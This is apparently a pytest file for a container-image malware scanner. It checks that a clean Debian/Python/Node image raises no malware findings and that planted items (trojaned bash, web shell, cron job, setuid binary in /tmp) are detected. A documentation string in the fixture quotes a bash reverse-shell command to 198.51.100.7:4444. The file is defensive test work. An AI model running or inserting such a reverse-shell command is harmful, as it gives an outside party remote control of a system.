"""A clean Debian with Python and Node, and the same with something planted: nothing grave in the one, every plant in the other."""

import base64
import hashlib
import json

import pytest

from tests.content.malware.specimens import SPECIMENS
from tests.inventory.layers import OS_RELEASE, dpkg_status, image_of, scan, tar_of
from tidewaiter import content
from tidewaiter.content.image import image_findings
from tidewaiter.content.malware.compiling import compile_rules
from tidewaiter.inventory.assemble import assemble
from tidewaiter.model.severity import Severity

pytest.importorskip("yara_x", reason="the extra `malware` is not installed")

SITE, NODE = "usr/local/lib/python3.12/site-packages/", "srv/app/node_modules/"
BASH = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(44) + b"a shell of the distribution" * 20
SCRIPT = b'#!/bin/sh\nset -e\nexec /usr/bin/bash "$@"\n'
MODULE = b'"""Read settings."""\nimport base64, os, subprocess\n\n\ndef run(command):\n    return subprocess.run(command, check=True)\n'
CONFIG = b"net.core.somaxconn = 1024\n"
MANUAL = b"Reverse shells such as `bash -i >& /dev/tcp/198.51.100.7/4444` are detected by rule 12; keys like AKIA... are masked.\n"


def sums(files: dict[str, bytes]) -> bytes:
    """Write what dpkg keeps of some files."""
    return "".join(f"{hashlib.md5(data, usedforsecurity=False).hexdigest()}  {path}\n" for path, data in files.items()).encode()


def record(files: dict[str, bytes]) -> bytes:
    """Write what pip keeps of some files."""
    digests = {path: base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode() for path, data in files.items()}
    return "".join(f"{path.removeprefix(SITE)},sha256={digest},9\n" for path, digest in digests.items()).encode()


def clean() -> list[bytes]:
    """Write three layers: the distribution, Python packages, a Node application."""
    system = {"usr/bin/bash": BASH, "usr/sbin/service": SCRIPT, "usr/share/doc/bash/shells.md": MANUAL}
    debian = {
        "etc/os-release": OS_RELEASE,
        "etc/sysctl.conf": CONFIG,
        "etc/crontab": b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "var/lib/dpkg/status": dpkg_status(("bash", "5.2")),
        "var/lib/dpkg/info/bash.md5sums": sums(system),
        "var/lib/dpkg/info/bash.list": "".join(f"/{path}\n" for path in system).encode(),
    }
    python = {f"{SITE}settings/__init__.py": MODULE, f"{SITE}settings/_fast.so": BASH}
    metadata = b"Metadata-Version: 2.1\nName: settings\nVersion: 1\n"
    installed = {f"{SITE}settings-1.dist-info/METADATA": metadata, f"{SITE}settings-1.dist-info/RECORD": record(python)}
    node = {
        f"{NODE}server/package.json": json.dumps(
            {"name": "server", "version": "1.0.0", "scripts": {"postinstall": "node build.js"}}
        ).encode(),
        f"{NODE}server/index.js": b"const http = require('http');\nhttp.createServer((req, res) => res.end('ok')).listen(80);\n",
    }
    return [tar_of(debian | system, mode=0o755), tar_of(python | installed, mode=0o755), tar_of(node)]


def found(tars: list[bytes]) -> dict[str, Severity]:
    """Scan layers with everything and map what is told of their content to its severity."""
    visitors, image = content.visitors_with(compile_rules()), image_of(*tars)
    inventory = assemble(image, [scan(tar, visitors=visitors()) for tar in tars])
    return {finding.rule_id: finding.severity for finding in image_findings(image, inventory)}


def test_near_miss() -> None:
    """A clean image has no sign of malware and nothing critical."""
    told = found(clean())
    assert not [rule for rule in told if rule.startswith("TW-MALWARE")]
    assert Severity.CRITICAL not in told.values()


def test_hit() -> None:
    """Each plant of a fourth layer is told: a trojan of bash, a shell for root, a web shell, a job, a changed library."""
    web, job = SPECIMENS["web-shell-php"].positives[0], SPECIMENS["persistence-in-cron"].positives[0]
    planted = {
        "usr/bin/bash": BASH + b"and a back door",
        f"{SITE}settings/_fast.so": BASH + b"changed",
        f"srv/{web.path}": web.data,
        job.path: job.data,
        "tmp/worker": BASH,
    }
    told = found([*clean(), tar_of(planted, mode=0o4755)])
    assert {
        "TW-MALWARE-modified-package-file",
        "TW-MALWARE-modified-python-package",
        "TW-MALWARE-web-shell-php",
        "TW-MALWARE-persistence-in-cron",
        "TW-MALWARE-executable-in-temporary-place",
        "TW-MALWARE-setuid-shell",
    } <= told.keys()
